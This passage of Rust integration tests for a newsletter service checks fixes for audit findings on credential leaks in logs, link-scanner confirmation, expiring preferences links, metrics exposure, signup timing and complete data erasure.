    let ca = certs.path().join("ca.pem").display().to_string();
    let served = Served::start_logging(
        &db,
        &[
            ("RUST_LOG", "trace"),
            ("BREAKFAST_SMTP_URL", &smtp_url),
            ("BREAKFAST_MAIL__SMTP_CA_FILE", &ca),
        ],
        Some(&log),
    )
    .await;
    assert_eq!(served.subscribe("wire-reader@example.org").await, 200);
    let mail = smtp.wait_for(1, Duration::from_secs(20)).await;
    assert_eq!(
        mail.len(),
        1,
        "the confirmation went through STARTTLS and AUTH"
    );
    let link = crate::kit::find_link(&crate::kit::Mail::parse(&mail[0]).text, "/confirm?token=")
        .expect("a confirmation link");
    let token = link.split("token=").nth(1).unwrap().to_string();
    let page = reqwest::get(format!("{}/confirm?token={token}", served.base))
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    drop(served);
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.contains("TRACE"), "trace logging is on: {text}");
    let plain = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD
            .encode(format!("\0{USER}\0{PASSWORD_ON_THE_WIRE}"))
    };
    for secret in [
        "wire-reader@example.org",
        "RCPT TO",
        "MAIL FROM",
        "AUTH",
        PASSWORD_ON_THE_WIRE,
        plain.as_str(),
        token.as_str(),
        "token=",
    ] {
        assert!(!text.contains(secret), "{secret:?} in the log:\n{text}");
    }
}

/// Signs up `email` and returns the token of the confirmation link in the email.
async fn confirmation_token(t: &TestApp, email: &str) -> String {
    let res = t.post_form("/subscribe", &[("email", email)]).await;
    assert_eq!(res.status, 200);
    let mails = t.wait_for_outbox(1, Duration::from_secs(20)).await;
    let mail = crate::kit::Mail::parse(mails.last().expect("a confirmation email"));
    let link = crate::kit::find_link(&mail.text, "/confirm?token=").expect("a link");
    link.split("token=").nth(1).unwrap().to_string()
}

/// Finding 16: `GET /confirm` used to confirm, so a mail scanner following links
/// subscribed addresses nobody confirmed. The GET now shows one button (a form, no
/// script); only its POST confirms.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn following_a_confirmation_link_does_not_confirm() {
    let Some(t) = TestApp::spawn(Backend::Sqlite).await else {
        return;
    };
    let token = confirmation_token(&t, "scanned@example.org").await;
    for _ in 0..3 {
        let res = t
            .http
            .get(t.url(&format!("/confirm?token={token}")))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        let page = res.text().await.unwrap();
        assert!(
            page.contains(r#"<form method="post" action="/confirm">"#),
            "{page}"
        );
        assert!(!page.contains("<script"), "{page}");
    }
    let status = |t: &TestApp| {
        let app = t.app.clone();
        async move {
            let email = breakfast::domain::EmailAddress::parse("scanned@example.org").unwrap();
            app.store
                .subscriber_by_email(&email)
                .await
                .unwrap()
                .unwrap()
                .status
        }
    };
    assert_eq!(
        status(&t).await,
        breakfast::domain::SubscriberStatus::Pending
    );
    let res = t.post_form("/confirm", &[("token", &token)]).await;
    assert_eq!(res.status, 200);
    assert!(res.body.contains("You're subscribed"));
    assert_eq!(
        status(&t).await,
        breakfast::domain::SubscriberStatus::Confirmed
    );
    t.stop().await;
}

/// Finding 10: the confirmed page handed out a preferences link that never expired, also
/// when an expired confirmation link was replayed. Preferences links now expire
/// (`subscribers.preferences_link_days`), and a replayed expired link shows none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn preferences_links_expire_and_replays_hand_out_none() {
    let clock = Clock::manual("2026-06-01T08:00:00Z".parse().unwrap());
    let Some(t) = TestApp::spawn_with(
        Backend::Sqlite,
        "[subscribers]\nconfirm_token_days = 7\npreferences_link_days = 30\nsend_welcome = false\n",
        clock.clone(),
    )
    .await
    else {
        return;
    };
    let token = confirmation_token(&t, "prefs@example.org").await;
    let page = t.post_form("/confirm", &[("token", &token)]).await.body;
    let prefs = crate::kit::find_link(&page, "/preferences?token=").expect("a preferences link");
    let prefs_path = &prefs[prefs.find("/preferences").unwrap()..];
    let open = |path: String| t.http.get(t.url(&path)).send();
    assert_eq!(open(prefs_path.to_string()).await.unwrap().status(), 200);
    // A week and a bit later the confirmation link has expired: replaying it says
    // "subscribed" but gives no way into the subscriber's data.
    clock.advance(chrono::Duration::days(8));
    let replay = open(format!("/confirm?token={token}")).await.unwrap();
    assert_eq!(replay.status(), 200);
    let replay = replay.text().await.unwrap();
    assert!(replay.contains("You're subscribed"), "{replay}");
    assert!(!replay.contains("/preferences?token="), "{replay}");
    // And the preferences link itself stops working after its 30 days.
    clock.advance(chrono::Duration::days(23));
    let expired = open(prefs_path.to_string()).await.unwrap();
    assert_eq!(expired.status(), 410);
    assert!(
        expired
            .text()
            .await
            .unwrap()
            .contains("Every email we send has a fresh one")
    );
    t.stop().await;
}

/// Finding 4: /metrics was open by default, and its subscriber and sent-mail counts moved
/// with each sign-up, telling whether an address was already subscribed. Without a token
/// it is now served only on the separate `metrics.listen` address (loopback), and the
/// sign-up answer no longer waits for work that differs by the address's state.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_are_not_open_by_default() {
    let private = format!("127.0.0.1:{}", free_port());
    let listen = private.clone();
    let Some(t) = TestApp::spawn_configured(Backend::Sqlite, "", Clock::System, move |c| {
        c.metrics.token = breakfast::config::Secret::default();
        c.metrics.listen = listen;
    })
    .await
    else {
        return;
    };
    for bearer in [None, Some("anything")] {
        let mut req = t.http.get(t.url("/metrics"));
        if let Some(b) = bearer {
            req = req.bearer_auth(b);
        }
        let res = req.send().await.unwrap();
        assert_eq!(res.status(), StatusCode::NOT_FOUND);
        let body = res.text().await.unwrap();
        assert!(!body.contains("breakfast_subscribers"), "{body}");
    }
    let scraped = t
        .http
        .get(format!("http://{private}/metrics"))
        .send()
        .await
        .unwrap();
    assert_eq!(scraped.status(), StatusCode::OK);
    assert!(scraped.text().await.unwrap().contains("breakfast_"));

    // New and already-confirmed addresses get the same answer.
    crate::kit::confirmed(&t.app, "known@example.org").await;
    let mut answers = Vec::new();
    for email in ["known@example.org", "fresh@example.org"] {
        let res = t.post_form("/subscribe", &[("email", email)]).await;
        // The page echoes the typed address (so a typo shows); apart from that, alike.
        answers.push((res.status, res.body.replace(email, "ADDRESS")));
    }
    assert_eq!(answers[0], answers[1]);
    t.stop().await;
}

/// Finding 4, its timing half: the sign-up answer took longer for a new address than for a
/// confirmed one, since it waited for the work that differs by the address's state. Now
/// it answers before any of that work: with the database's write lock held by another
/// connection, the form is still answered at once (before, it waited for the lock), and
/// the sign-up is stored once the lock is let go.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_signup_answer_waits_for_no_database_work() {
    use sqlx::Connection;
    let Some(t) = TestApp::spawn(Backend::Sqlite).await else {
        return;
    };
    let mut locker = sqlx::SqliteConnection::connect(&t.db.url).await.unwrap();
    sqlx::query("BEGIN IMMEDIATE")
        .execute(&mut locker)
        .await
        .unwrap();
    // Well inside the store's 10-second busy timeout: an answer that waited for the lock
    // cannot arrive in time.
    let answer = t
        .http
        .post(t.url("/subscribe"))
        .form(&[("email", "while-locked@example.org")])
        .timeout(Duration::from_secs(4))
        .send()
        .await
        .expect("the sign-up is answered while the database is locked");
    assert_eq!(answer.status(), StatusCode::OK);
    let stored_early = t
        .app
        .store
        .subscriber_by_email(&"while-locked@example.org".parse().unwrap())
        .await;
    assert!(
        stored_early.is_err() || stored_early.unwrap().is_none(),
        "nothing could be stored while the lock was held"
    );
    sqlx::query("ROLLBACK").execute(&mut locker).await.unwrap();
    breakfast::subscribers::signups_settled(Duration::from_secs(20)).await;
    let stored = t
        .app
        .store
        .subscriber_by_email(&"while-locked@example.org".parse().unwrap())
        .await
        .unwrap();
    assert!(stored.is_some(), "the sign-up is stored after the answer");
    t.stop().await;
}

/// Jobs whose payload holds `needle`, read straight from apalis's table.
async fn jobs_mentioning(t: &TestApp, needle: &str) -> i64 {
    use sqlx::Connection;
    let mut conn = sqlx::SqliteConnection::connect(&t.db.url).await.unwrap();
    sqlx::query_scalar("SELECT COUNT(*) FROM Jobs WHERE instr(CAST(job AS TEXT), $1) > 0")
        .bind(needle)
        .fetch_one(&mut conn)
        .await
        .unwrap()
}

/// Finding 8: erasing a subscriber left their queued emails to go out (8 welcome emails
/// after "Delete everything", 8 more on "Retry all") and kept their address, name and
/// whole emails with tokens in the job table. Erasure now cancels and removes those jobs,
/// and a job re-checks its subscriber before sending.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn erasure_cancels_queued_mail_and_leaves_no_address_in_jobs() {
    use breakfast::queue::jobs::SendTransactional;
    let toml = "[admin]\napi_token = \"config-api-token-0123456789\"\n";
    let Some(t) = TestApp::with_toml(Backend::Sqlite, toml).await else {
        return;
    };
    let address = "erase-me@example.org";
    confirmation_token(&t, address).await;
    let email = breakfast::domain::EmailAddress::parse(address).unwrap();
    let s = t
        .app
        .store
        .subscriber_by_email(&email)
        .await
        .unwrap()
        .unwrap();
    let welcome = |to: breakfast::domain::EmailAddress| SendTransactional {
        to,
        to_name: Some("Erin".into()),
        subject: "Welcome".into(),
        html: "<p>welcome</p>".into(),
        text: "welcome".into(),
        list_subscriber_id: Some(s.id),
        unsubscribe_url: None,
        event: Some((s.id, "welcome sent".into())),
    };
    // Queued for later: still waiting when the erasure comes.
    for _ in 0..3 {
        t.app
            .queue
            .push_after(welcome(email.clone()), Duration::from_secs(3600))
            .await
            .unwrap();
    }
    assert!(
        jobs_mentioning(&t, address).await >= 4,
        "the done confirmation and 3 queued"
    );
    let erased = t
        .http
        .delete(t.url(&format!("/api/subscribers/{}", s.id)))
        .bearer_auth("config-api-token-0123456789")
        .send()
        .await
        .unwrap();
    assert_eq!(erased.status(), StatusCode::NO_CONTENT);
    assert_eq!(
        jobs_mentioning(&t, address).await,
        0,
        "the address stays in the job table"
    );
    assert_eq!(jobs_mentioning(&t, "Erin").await, 0);

    // A job that was already on its way (pushed now, as a worker would hold it) sends
    // nothing once it sees the subscriber is gone.
    t.app.queue.push(welcome(email.clone())).await.unwrap();
    let mut drained = false;
    for _ in 0..200 {
        use sqlx::Connection;
        let mut conn = sqlx::SqliteConnection::connect(&t.db.url).await.unwrap();
        let waiting: i64 = sqlx::query_scalar(
            "SELECT COUNT(*) FROM Jobs WHERE status NOT IN ('Done', 'Failed', 'Killed')",
        )
        .fetch_one(&mut conn)
        .await
        .unwrap();
        if waiting == 0 {
            drained = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(drained, "the job on its way was worked through");
    let mails = crate::kit::read_eml(&t.outbox_dir());
    assert_eq!(mails.len(), 1, "only the confirmation went out");
    t.stop().await;
}

/// "Delete everything" leaves the address and the name nowhere in SQLite's files. SQLite
/// keeps a deleted row's bytes in the freed space of its pages, and the write-ahead log
/// keeps earlier copies of the pages, so a row gone from every table could still be read
/// from the disk with `grep` until those pages happened to be reused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn erasure_leaves_the_address_nowhere_in_the_database_files() {
    let Some(t) = TestApp::spawn(Backend::Sqlite).await else {
        return;
    };
    let address = "erin.gone@example.org";
    let res = t
        .post_form(
            "/subscribe",
            &[("email", address), ("name", "Erinna Gonewell")],
        )
        .await;
    assert_eq!(res.status, 200);
    let mails = t.wait_for_outbox(1, Duration::from_secs(20)).await;
    let confirm = crate::kit::Mail::parse(&mails[0]);
    let link = crate::kit::find_link(&confirm.text, "/confirm?token=").expect("a link");
    let token = link.split("token=").nth(1).unwrap();
    assert_eq!(
        t.post_form("/confirm", &[("token", token)]).await.status,
        200
    );
    let mails = t.wait_for_outbox(2, Duration::from_secs(20)).await;
    let welcome = crate::kit::Mail::parse(&mails[1]);
    let preferences =
        crate::kit::find_link(&welcome.text, "/preferences?token=").expect("a preferences link");
    let token = preferences.split("token=").nth(1).unwrap();
    let erased = t
        .post_form(
            &format!("/preferences/delete?token={token}"),
            &[("confirm", "yes")],
        )
        .await;
    assert_eq!(erased.status, 200, "{}", erased.body);

    let files: Vec<_> = std::fs::read_dir(t.db.dir.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.to_string_lossy().contains("breakfast.db"))
        .collect();
    assert!(!files.is_empty());
    for file in &files {
        let bytes = std::fs::read(file).unwrap().to_ascii_lowercase();
        for needle in [address, "gonewell"] {
            let found = bytes
                .windows(needle.len())
                .filter(|w| *w == needle.as_bytes())
                .count();
            assert_eq!(found, 0, "{needle:?} is still in {}", file.display());
        }
    }
    t.stop().await;
}

/// Finding 8, the race behind the repeated welcome emails: several confirmations of one
/// address at once used to each queue a welcome. Only the one that made the change does.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn racing_confirmations_send_one_welcome() {
    let Some(t) = TestApp::spawn(Backend::Sqlite).await else {
        return;
    };
    let token = confirmation_token(&t, "twice@example.org").await;
    let clicks: Vec<_> = (0..8)
        .map(|_| {
            let (http, url, token) = (t.http.clone(), t.url("/confirm"), token.clone());
            tokio::spawn(async move {
                http.post(url)
                    .form(&[("token", token.as_str())])
                    .send()
                    .await
                    .unwrap()
                    .status()
            })
        })
        .collect();
    for click in clicks {
        assert_eq!(click.await.unwrap(), StatusCode::OK);
    }
    // The confirmation and one welcome; wait a while for any extra one.
    let mails = t.wait_for_outbox(3, Duration::from_secs(3)).await;
    let welcomes = mails
        .iter()
        .filter(|m| crate::kit::Mail::parse(m).subject.contains("Welcome"))
        .count();
    assert_eq!((mails.len(), welcomes), (2, 1));
    t.stop().await;
}
